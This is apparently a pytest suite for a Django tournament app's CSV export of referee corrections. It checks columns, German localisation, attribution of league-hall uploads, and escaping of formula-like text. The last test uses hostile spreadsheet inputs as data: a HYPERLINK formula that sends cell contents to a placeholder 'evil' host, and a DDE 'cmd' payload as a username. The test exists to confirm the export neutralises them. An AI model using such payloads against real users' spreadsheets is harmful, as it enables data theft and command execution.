"""referees:corrections_csv — every correction of the tournament, for the record."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.urls import reverse
from django.utils.text import slugify

from referees import corrections
from referees.models import Dispute
from tests import factories

from .helpers import full_table, referee_of

pytestmark = pytest.mark.django_db


def test_the_csv_holds_who_when_why_before_after_and_the_score_change(client, django_assert_max_num_queries):
    table = full_table(3)
    tournament = table.series.tournament
    referee = referee_of(tournament, "ref")
    dispute = Dispute.objects.create(table=table, description="x", raised_by="A", paragraph="4.2.3")
    game = table.games.get(number=1)
    corrections.correct_game(
        game.pk,
        expected_version=1,
        changes={"irregularity": "declarer"},
        user=referee,
        reason="revoke, 4.2.3",
        dispute=dispute,
        paragraph="4.2.3",
    )
    corrections.void_game(table.games.get(number=2).pk, expected_version=1, user=referee, reason="dealt out of turn")
    other = full_table(3)  # another tournament's corrections stay out
    corrections.void_game(other.games.get(number=1).pk, expected_version=1, user=factories.user(), reason="elsewhere")
    client.force_login(referee)
    with django_assert_max_num_queries(6):
        response = client.get(reverse("referees:corrections_csv", args=[tournament.pk]))
    assert response["Content-Type"].startswith("text/csv")
    assert f'filename="{slugify(tournament.name)}-corrections.csv"' in response["Content-Disposition"]
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeffTime;Series;Table;Deal;")  # German Excel's dialect, as the exports
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert [r["Reason"] for r in rows] == ["revoke, 4.2.3", "dealt out of turn"]
    first = rows[0]
    assert (first["Series"], first["Table"], first["Deal"], first["Kind"], first["By"]) == (
        "1",
        "1",
        "1",
        "edit",
        "ref",
    )
    assert (first["Dispute"], first["Paragraph"]) == (str(dispute.pk), "4.2.3")
    assert (first["Score before"], first["Score after"], first["Score change"]) == ("48", "-96", "-144")
    assert "irregularity:  -> declarer" in first["Changes"] and "won: true -> false" in first["Changes"]
    assert rows[1]["Kind"] == "void" and "voided: false -> true" in rows[1]["Changes"]
    assert first["Time"][:2] == "20" and "T" in first["Time"]


def test_the_csv_speaks_the_readers_language(client):
    """A file for people, as the standings CSV: German headers for a German reader."""
    table = full_table(3)
    tournament = table.series.tournament
    referee = referee_of(tournament, "ref")
    corrections.void_game(table.games.get(number=1).pk, expected_version=1, user=referee, reason="x")
    client.force_login(referee)
    url = reverse("referees:corrections_csv", args=[tournament.pk])
    text = client.get(url, HTTP_ACCEPT_LANGUAGE="de").content.decode("utf-8").removeprefix("\ufeff")
    (row,) = csv.DictReader(io.StringIO(text), delimiter=";")
    assert text.startswith("Zeit;Serie;Tisch;Spiel;Art;Von;Begründung;")
    assert (row["Spiel"], row["Ergebnis vorher"], row["Begründung"]) == ("1", "48", "x")
    # The time as German spreadsheets read one: 02.12.2026 21:05:09, not ISO.
    assert re.fullmatch(r"\d\d\.\d\d\.20\d\d \d\d:\d\d:\d\d", row["Zeit"]), row["Zeit"]


def test_a_league_halls_upload_is_named_as_such_not_by_its_internal_account(client):
    """A correction re-published by a league host is recorded under the host's inactive
    account (host-<id>); the CSV and the board say the hall's upload, with its name."""
    from leagues.hall_files import host_user

    table = full_table(3)
    tournament = table.series.tournament
    referee = referee_of(tournament, "ref")
    league, _group, _teams = factories.league_group(teams=2, roster=4)
    host = league.hosts.create(name="SC Herz Dame", token_digest="x" * 64)
    corrections.void_game(
        table.games.get(number=1).pk, expected_version=1, user=host_user(host), reason="re-published"
    )
    client.force_login(referee)
    text = client.get(reverse("referees:corrections_csv", args=[tournament.pk]), HTTP_ACCEPT_LANGUAGE="en")
    (row,) = csv.DictReader(io.StringIO(text.content.decode("utf-8").removeprefix("\ufeff")), delimiter=";")
    assert row["By"] == "the hall's upload (SC Herz Dame)"
    assert f"host-{host.pk}" not in text.content.decode()


@pytest.mark.parametrize("reason", ['=HYPERLINK("http://evil/?"&A1;"x")', "+49 30 1234", "-2+3", "@SUM(A1)", "=1+1"])
def test_a_formula_like_reason_or_username_is_text_in_the_csv(client, reason):
    """Typed-in text never runs as a formula in Excel (core.tabular, as every export)."""
    table = full_table(3)
    tournament = table.series.tournament
    referee = referee_of(tournament, "=cmd|' /C calc'!A0")
    corrections.void_game(table.games.get(number=1).pk, expected_version=1, user=referee, reason=reason)
    client.force_login(referee)
    response = client.get(reverse("referees:corrections_csv", args=[tournament.pk]))
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    (row,) = csv.DictReader(io.StringIO(text), delimiter=";")
    assert row["Reason"] == "'" + reason
    assert row["By"] == "'=cmd|' /C calc'!A0"
